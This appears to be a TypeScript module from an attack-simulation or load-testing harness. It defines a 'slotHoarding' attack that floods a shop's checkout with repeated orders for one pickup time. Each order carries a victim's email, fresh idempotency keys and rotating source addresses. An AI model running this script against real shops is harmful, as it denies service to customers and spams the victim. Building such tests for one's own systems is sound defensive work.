import { randomUUID } from 'node:crypto'
import { type Attack, addressOf, repeat } from '../attack.ts'
import { ask } from '../guest.ts'

export const slotHoarding: Attack = {
  load: '18 orders for one pickup time, all with the address of one victim',
  async run(target, times) {
    const order = new URLSearchParams(target.orderBody)
    order.set('email', 'victim@example.com')
    return repeat(18 * times, times, async (nth) => {
      order.set('key', randomUUID())
      const headers = { 'content-type': 'application/x-www-form-urlencoded' }
      const { status } = await ask(target, addressOf(nth % (2 * times)), '/checkout', {
        host: target.shopHost,
        body: order.toString(),
        headers,
      })
      return String(status)
    })
  },
}
